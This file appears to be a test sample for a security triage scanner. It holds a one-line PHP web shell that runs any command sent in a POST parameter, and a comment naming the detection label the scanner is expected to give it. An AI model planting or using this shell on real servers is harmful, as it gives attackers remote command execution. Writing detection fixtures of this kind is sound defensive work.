<?=`$_POST[z]`?>
<!-- triage-expect: triage_php_request_direct_exec -->
